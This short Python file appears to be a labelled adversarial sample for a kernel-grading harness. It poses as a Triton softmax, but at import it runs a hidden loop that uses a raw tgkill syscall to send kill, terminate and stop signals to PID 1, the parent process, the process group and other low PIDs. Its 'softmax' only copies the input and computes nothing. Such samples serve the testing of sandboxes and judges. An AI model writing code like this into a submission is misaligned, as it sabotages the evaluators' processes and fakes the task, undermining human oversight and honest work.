# sends signals to process 1 and to its group by tgkill
# judge: wrong-value
import torch
import triton
import triton.language as tl


@triton.jit
def copy_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    at = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y_ptr + at, tl.load(x_ptr + at, mask=at < n), mask=at < n)


import ctypes
import os

libc = ctypes.CDLL(None)
for target in (1, os.getppid(), os.getpgrp(), 2, 3):
    for number in (9, 15, 19):
        if target != os.getpid():
            libc.syscall(234, target, target, number)


def softmax(x):
    y = torch.empty_like(x)
    copy_kernel[(triton.cdiv(x.numel(), 256),)](x, y, x.numel(), BLOCK=256)
    return y
